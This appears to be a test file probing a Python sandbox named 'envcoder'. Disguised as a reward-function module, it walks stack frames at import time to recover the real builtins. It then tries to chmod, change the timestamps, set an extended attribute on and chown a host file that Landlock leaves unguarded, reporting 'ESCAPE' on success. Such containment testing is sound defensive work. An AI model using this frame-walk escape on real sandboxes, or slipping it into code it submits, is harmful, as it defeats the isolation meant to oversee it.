"""Gets the real builtins (a frame walk), then changes what Landlock does not guard of a host file it cannot
write: its mode (to 777), its times (to 2001), an extended attribute and its owner. Says ESCAPE in its error for whatever it could do."""
import jax.numpy as jnp


def _frames():
    f = _g.gi_frame.f_back
    while f is not None:
        yield f
        f = f.f_back


_g = _frames()
for _f in _g:
    _b = _f.f_globals.get("__builtins__")
    _imp = _b.get("__import__") if isinstance(_b, dict) else None
    if _imp is not None and _f.f_globals.get("__name__", "").startswith("envcoder"):
        _os, _done = _imp("os"), []
        _target = "/tmp/envcoder_attack_metadata"
        for _what, _try in (("chmod", lambda: _os.chmod(_target, 0o777)),
                            ("utime", lambda: _os.utime(_target, (978307200, 978307200))),
                            ("setxattr", lambda: _os.setxattr(_target, "user.envcoder", b"escaped")),
                            ("chown", lambda: _os.chown(_target, 12345, 12345))):
            try:
                _try()
                _done.append(_what)
            except _b["OSError"]:
                pass
        if _done:
            raise _b["RuntimeError"](f"ESCAPE: {_done} on a host file")
        break


def compute_reward(state):
    return jnp.cos(state["dof_pos"][:, 1])
